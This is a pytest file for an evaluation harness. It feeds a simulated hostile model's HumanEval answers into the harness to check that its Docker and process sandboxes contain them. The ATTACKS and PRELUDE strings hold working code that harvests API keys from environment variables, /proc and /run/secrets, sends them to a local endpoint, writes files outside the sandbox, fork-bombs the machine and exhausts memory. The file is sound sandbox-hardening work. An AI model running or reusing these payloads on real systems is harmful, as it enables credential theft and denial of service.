"""Issue 13's acceptance: a model whose HumanEval answers are attacks. Each answer
passes its problem only if its attack works (it asserts success before the
problem's correct function), and sends what it got to the endpoint with a marker
of its own. Run the way the reference document runs a local endpoint
(``--network host``), with the key and an env_var secret set."""

import json
import secrets
import threading
import time

import pytest

from conftest import DATA_DIR, doit, evaltasks_cli, results, write_config
from support.endpoint import FakeEndpoint

from evaltasks.harness.benchmarks import humaneval

PRELUDE = r'''
import glob, os, urllib.error, urllib.request
PORT = {port}
def exfil(marker, data=b"x"):
    for host in ("127.0.0.1", "172.17.0.1", "host.docker.internal"):
        try:
            urllib.request.urlopen(urllib.request.Request(
                f"http://{{host}}:{{PORT}}/attack-{{marker}}", data=bytes(data)[:2000] or b"x"), timeout=2)
            return True
        except urllib.error.HTTPError:
            return True         # it got there; the endpoint just did not like it
        except Exception:
            pass
    return False
def read(path, size=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(size)
    except Exception:
        return b""
def found(data):
    return b"sk-hostile-" in data
'''

ATTACKS = {
    "proc-environ": '''
got = b"".join(d for d in map(read, glob.glob("/proc/[0-9]*/environ")) if found(d))
ok = bool(got) and exfil("proc-environ", got)
''',
    "environment": '''
got = "".join(v for v in os.environ.values() if "sk-hostile-" in v).encode()
ok = bool(got) and exfil("environment", got)
''',
    "proc-self": '''
skip = {"mem", "pagemap", "clear_refs", "kcore", "task", "map_files", "net", "ns", "attr", "cwd", "root", "exe"}
paths = [f"/proc/self/{n}" for n in os.listdir("/proc/self") if n not in skip]
paths += glob.glob("/proc/self/fd/*") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/1/environ"]
got = b"".join(d for d in map(read, paths) if found(d))
ok = bool(got) and exfil("proc-self", got)
''',
    "run-secrets": '''
got = b"".join(read(os.path.join(d, f)) for d, _, fs in os.walk("/run/secrets") for f in fs)
ok = bool(got) and exfil("run-secrets", got)
''',
    "output-data": '''
paths = ["/out/task.json", "{out}/humaneval/task.json", "/data/humaneval/HumanEval.jsonl.gz",
         "{data}/HumanEval.jsonl.gz"] + glob.glob("/cache/*") + glob.glob("{out}/.response_cache/*")
got = b"".join(map(read, paths))
ok = bool(got) and exfil("output-data", got)
''',
    "tcp": '''
ok = exfil("tcp")
''',
    "write-outside": '''
written = []
for path in ["/tmp/pwn", "/var/tmp/pwn", "/pwn", "/out/pwn", "/dev/shm/pwn", "/opt/evaltasks/pwn",
             "{out}/pwn", "/data/pwn", "/cache/pwn"]:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        written.append(path)
    except Exception:
        pass
ok = bool(written) and exfil("write-outside", "\\n".join(written).encode()) or bool(written)
''',
    "fork-bomb": '''
import time
children = 0
for _ in range(1000):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
    children += 1
ok = children == 1000 and (exfil("fork-bomb") or True)
''',
    "memory": '''
x = bytearray(4 << 30)
for i in range(0, len(x), 1 << 16):
    x[i] = 1
ok = exfil("memory") or True
''',
}


def hostile_model(items, port, out, data):
    """Answers problem i with attack i, followed by the problem's correct function."""
    by_entry = {}
    for (name, attack), item in zip(ATTACKS.items(), items):
        code = (PRELUDE.format(port=port) + attack.replace("{out}", str(out)).replace("{data}", str(data)) +
                f"assert ok, {name!r}\n" + item["prompt"] + item["gold"])
        by_entry[f"def {item['entry_point']}("] = f"```python\n{code}\n```"

    def respond(payload):
        text = payload["messages"][-1]["content"]
        return next((reply for entry, reply in by_entry.items() if entry in text), "no idea")

    return respond


def watch_containers(client, out, seen, done):
    """Every container of the run's output dir, inspected while it exists."""
    while not done.is_set():
        for summary in client.api.containers(all=True, filters={"label": f"evaltasks.output_dir={out}"}):
            try:
                seen[summary["Id"]] = json.dumps(client.api.inspect_container(summary["Id"]))
            except Exception:       # removed in between
                pass
        time.sleep(0.05)


@pytest.mark.docker
def test_hostile_programs_score_0_reach_nothing_and_the_key_is_in_no_inspect(tmp_path, docker_client):
    key, token = f"sk-hostile-key-{secrets.token_hex(8)}", f"sk-hostile-hf-{secrets.token_hex(8)}"
    out = tmp_path / "results"
    data = (DATA_DIR / "humaneval").resolve()
    items = humaneval.load(str(DATA_DIR / "humaneval"))[:len(ATTACKS)]
    seen, done = {}, threading.Event()
    with FakeEndpoint(api_key=key) as ep:
        ep.responder = hostile_model(items, ep.port, out, data)
        tasks = [{"name": "humaneval", "env_vars": {"HF_TOKEN": "HOSTILE_HF"},
                  "overrides": {"config.params.limit_samples": len(ATTACKS), "config.params.parallelism": 3,
                                "config.params.extra.timeout": 20.0}}]
        cfg = write_config(tmp_path / "c.yaml", ep.chat_url, out, tasks=tasks,
                           target={"api_endpoint": {"model_id": "test-model", "url": ep.chat_url,
                                                    "api_key_name": "HOSTILE_KEY"}})
        watcher = threading.Thread(target=watch_containers, args=(docker_client, str(out), seen, done))
        watcher.start()
        try:
            run = doit(f"config={cfg}", env={"HOSTILE_KEY": key, "HOSTILE_HF": token})
        finally:
            done.set()
            watcher.join()
    assert run.returncode == 0, run.stdout + run.stderr
    rows = [json.loads(line) for line in (out / "humaneval" / "samples.jsonl").read_text().splitlines()]
    outcomes = {name: row["result"] for name, row in zip(ATTACKS, sorted(rows, key=lambda r: r["index"]))}
    assert all(not r.startswith("passed") for r in outcomes.values()), outcomes
    assert results(out, "humaneval")["metrics"]["pass@1"]["value"] == 0.0
    # Only the harness's own requests arrived: none from an attack.
    assert {r.path for r in ep.requests} == {"/v1/chat/completions"}, [r.path for r in ep.requests]
    assert len(ep.requests) == len(ATTACKS) + 1          # + the preflight check
    # The harness and its sandbox, and neither shows a secret.
    assert len(seen) == 2
    for dump in seen.values():
        assert key not in dump and token not in dump
    assert "[launcher] sandbox container evaltasks-humaneval-" in (out / "humaneval" / "logs" / "stdout.log").read_text()
    files = [p for p in out.rglob("*") if p.is_file()]
    assert not any(p.name == "pwn" for p in files)
    for path in files:
        assert key.encode() not in path.read_bytes() and token.encode() not in path.read_bytes(), path


NETWORK_ATTACKS = ("proc-environ", "environment", "proc-self", "tcp")


@pytest.mark.usefixtures("own_cache")
def test_under_runtime_process_with_the_opt_in_network_attacks_reach_nothing(tmp_path, state):
    """runtime: process, opted in with the --confirm-run-unsafe-code flag itself:
    the programs run on this machine, each in a network namespace of its own, so
    every attack that must send what it found fails and the endpoint receives
    only the harness's requests; results.json says what kept them off the network."""
    key = f"sk-hostile-key-{secrets.token_hex(8)}"
    out = tmp_path / "results"
    data = (DATA_DIR / "humaneval").resolve()
    items = humaneval.load(str(DATA_DIR / "humaneval"))[:len(ATTACKS)]
    with FakeEndpoint(api_key=key) as ep:
        model = hostile_model(items, ep.port, out, data)
        wanted = {f"def {item['entry_point']}(" for name, item in zip(ATTACKS, items) if name in NETWORK_ATTACKS}
        ep.responder = lambda p: model(p) if any(e in p["messages"][-1]["content"] for e in wanted) else "no idea"
        tasks = [{"name": "humaneval", "overrides": {"config.params.limit_samples": len(ATTACKS),
                                                     "config.params.extra.timeout": 20.0}}]
        cfg = write_config(tmp_path / "c.yaml", ep.chat_url, out, tasks=tasks, execution={"runtime": "process"},
                           target={"api_endpoint": {"model_id": "test-model", "url": ep.chat_url,
                                                    "api_key_name": "HOSTILE_KEY"}})
        refused = evaltasks_cli("run", "--config", str(cfg), env={"HOSTILE_KEY": key})
        assert refused.returncode == 2 and "--confirm-run-unsafe-code" in refused.stderr, refused.stderr
        run = evaltasks_cli("run", "--config", str(cfg), "--confirm-run-unsafe-code", env={"HOSTILE_KEY": key})
    assert run.returncode == 0, run.stdout + run.stderr
    rows = sorted((json.loads(line) for line in (out / "humaneval" / "samples.jsonl").read_text().splitlines()),
                  key=lambda r: r["index"])
    outcomes = {name: row["result"] for name, row in zip(ATTACKS, rows) if name in NETWORK_ATTACKS}
    # Each failed at its own `assert ok, name`: it ran, found or tried, and could not send.
    assert outcomes == {name: f"failed: AssertionError: {name}" for name in NETWORK_ATTACKS}, outcomes
    assert {r.path for r in ep.requests} == {"/v1/chat/completions"}, [r.path for r in ep.requests]
    assert results(out, "humaneval")["sandbox"] == {"network": "none: each program runs in a network namespace of its own"}
    assert "WARNING" not in (out / "humaneval" / "logs" / "stdout.log").read_text()
